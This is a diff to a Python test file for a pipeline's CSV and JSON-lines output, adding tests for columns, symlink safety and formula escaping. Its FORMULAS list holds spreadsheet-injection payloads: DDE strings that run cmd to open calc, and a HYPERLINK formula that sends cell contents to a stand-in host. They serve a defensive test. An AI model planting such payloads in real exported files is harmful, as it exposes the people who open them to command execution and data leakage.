@@ -2,19 +2,24 @@
 
 from __future__ import annotations
 
+import ast
 import csv
 import json
+import os
 import re
 from contextlib import closing
 from decimal import Decimal
 from pathlib import Path
+from typing import Any
 
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
-from consumer.contracts import DocumentResult
-from producer.faults import WrongUsage
-from producer.following.outcome import IN_BOTH
-from producer.following.tables import json_line, open_table
+from consumer.contracts import DocumentResult, Usage
+from producer.faults import NotWritten, WrongUsage
+from producer.following.outcome import IN_BOTH, OF_DEAD_LETTERS, Outcome
+from producer.following.tables import csv_cell, json_line, open_table
 from tests.fakes.outcomes import dead_letter, result, result_outcome
 
 
@@ -59,6 +64,146 @@ def test_a_csv_has_savings_and_what_was_done_about_a_long_document(tmp_path: Pat
     with path.open(encoding="utf-8", newline="") as file:
         rows = [(row["saved_usd"], row["long"]) for row in csv.DictReader(file)]
     assert rows == [("0.0014", "summary: head; keywords: split"), ("0", ""), ("", "")]
+
+
+def _rows(path: Path, *outcomes: Outcome) -> list[dict[str, str]]:
+    with closing(open_table(path)) as table:
+        for one in outcomes:
+            table.write(one)
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_a_csv_has_all_that_a_result_and_a_dead_letter_have(tmp_path: Path) -> None:
+    """A field that is added to a result, to its usage or to a dead letter has a column by itself."""
+    spent = Usage(input_tokens=9, output_tokens=8, cached_tokens=7, reasoning_tokens=6)
+    headers = {"exception.class.name": "x.Y", "model": "p/m", "provider": "p", "group": "g", "replay_count": "4"}
+    first, second = _rows(tmp_path / "out.csv", result_outcome(1, usage=spent), dead_letter(2, errors=headers))
+    of_results = set(DocumentResult.model_fields) - {"outputs", "usage", "source", "schema_version"}
+    assert of_results | set(Usage.model_fields) | set(OF_DEAD_LETTERS) <= set(first)
+    assert {name: first[name] for name in Usage.model_fields} == {
+        "input_tokens": "9",
+        "output_tokens": "8",
+        "cached_tokens": "7",
+        "reasoning_tokens": "6",
+    }
+    assert (first["started_at"], first["models"]) == ("2026-01-01T12:00:00.000Z", '{"summary": "m"}')
+    assert {name: second[name] for name in ("exception", "model", "provider", "group", "replay_count")} == {
+        "exception": "x.Y",
+        "model": "p/m",
+        "provider": "p",
+        "group": "g",
+        "replay_count": "4",
+    }
+    assert (second["reasoning_tokens"], first["provider"]) == ("", "")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x?"&A1,"ok")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_spreadsheet_runs_no_answer(tmp_path: Path, formula: str) -> None:
+    """Whatever a document, a model or a header says is text, also under a name that is a formula, and in a list."""
+    path = tmp_path / "out.csv"
+    found = result_outcome(1, document_id=formula, outputs={"summary": formula, formula: "x", "keywords": [formula]})
+    failed = dead_letter(2, key=formula.encode(), errors={"reason": formula, "exception.message": formula})
+    _rows(path, found, failed, result_outcome(3, outputs={"later": formula}))
+    with path.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))
+    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r\n\uff1d")]
+    assert sum(formula in cell for row in rows for cell in row) == 8
+
+
+def test_numbers_are_no_formulas(tmp_path: Path) -> None:
+    """A negative number stays one, as a number or as a text that is nothing else."""
+    outputs: dict[str, Any] = {"score": -5, "share": -0.5, "text": "-5", "plus": "+1.5", "many": [-1, 2]}
+    (row,) = _rows(tmp_path / "out.csv", result_outcome(1, outputs=outputs))
+    assert [row[name] for name in outputs] == ["-5", "-0.5", "-5", "+1.5", "'-1; 2"]
+
+
+@given(st.text())
+@example("'=1")
+@example("''")
+@example("'-5")
+@example("it's")
+def test_a_cell_can_be_read_back(text: str) -> None:
+    """As docs/producer.md says: of a quote mark before such a character, one is taken away."""
+    page = (Path(__file__).parents[2] / "docs" / "producer.md").read_text(encoding="utf-8")
+    found = re.search(r"""re\.sub\((r".+"), "", cell\)""", page)
+    assert found
+    assert re.sub(ast.literal_eval(found[1]), "", csv_cell(text)) == text
+
+
+def test_a_model_that_did_not_think_has_thought_nothing(tmp_path: Path) -> None:
+    """A result does not write that it is 0; the cell does."""
+    (row,) = _rows(tmp_path / "out.csv", result_outcome(1))
+    assert row["reasoning_tokens"] == "0"
+
+
+def test_columns_of_before_keep_their_places(tmp_path: Path) -> None:
+    """Programs may go by the place; newer columns are at the end."""
+    header = list(_rows(tmp_path / "out.csv", result_outcome(1, outputs={"summary": "s"}))[0])
+    assert header[:3] == ["kind", "document_id", "summary"]
+    assert header[3:11] == [
+        "reason",
+        "stage",
+        "step",
+        "message",
+        "input_tokens",
+        "output_tokens",
+        "cached_tokens",
+        "cost_usd",
+    ]
+    assert header[23] == "metadata"
+
+
+def test_a_csv_that_grows_writes_through_no_link(tmp_path: Path) -> None:
+    """In a folder that others may write to, a name that can be guessed may be a link to a file of ours."""
+    (tmp_path / "precious").write_text("mine", encoding="utf-8")
+    for name in ("out.csv.part", ".out.csv.part", "out.part"):
+        (tmp_path / name).symlink_to("precious")
+    rows = _rows(tmp_path / "out.csv", result_outcome(1), result_outcome(2, outputs={"new": "x"}))
+    assert [row["new"] for row in rows] == ["", "x"]
+    assert (tmp_path / "precious").read_text(encoding="utf-8") == "mine"
+    assert len(list(tmp_path.iterdir())) == 5, "nothing is left over"
+
+
+def test_a_csv_that_grows_stays_what_it_was(tmp_path: Path) -> None:
+    """Its permissions stay, and so does a link that was named."""
+    (tmp_path / "real.csv").touch(mode=0o640)
+    (tmp_path / "out.csv").symlink_to("real.csv")
+    _rows(tmp_path / "out.csv", result_outcome(1))
+    assert (tmp_path / "out.csv").is_symlink()
+    assert (tmp_path / "real.csv").stat().st_mode & 0o777 == 0o640
+    assert "document_id" in (tmp_path / "real.csv").read_text(encoding="utf-8")
+
+
+def test_a_csv_that_cannot_grow_leaves_nothing_behind(tmp_path: Path) -> None:
+    """As where somebody has taken the file away."""
+    path = tmp_path / "out.csv"
+    with closing(open_table(path)) as table:
+        table.write(result_outcome(1))
+        path.unlink()
+        with pytest.raises(NotWritten, match="No such file"):
+            table.write(result_outcome(2, outputs={"new": "x"}))
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_csv_is_no_pipe(tmp_path: Path) -> None:
+    """It is written anew when a column comes; a pipe would be waited for without an end."""
+    os.mkfifo(tmp_path / "out.csv")
+    with pytest.raises(WrongUsage, match="no regular file"):
+        open_table(tmp_path / "out.csv")
 
 
 def test_json_lines_are_replaced_and_flushed(tmp_path: Path) -> None:
@@ -107,9 +252,13 @@ def test_a_dead_letter_s_line_says_what_went_wrong() -> None:
         "message": "9,000 tokens, and the model takes 8,192",
         "exception": "x.Y",
         "model": "m",
+        "provider": None,
         "group": "g",
         "first_failed_at": None,
         "replay_count": 0,
+        "left_out": [],
+        "value_bytes": None,
+        "value_sha256": None,
     }
 
 
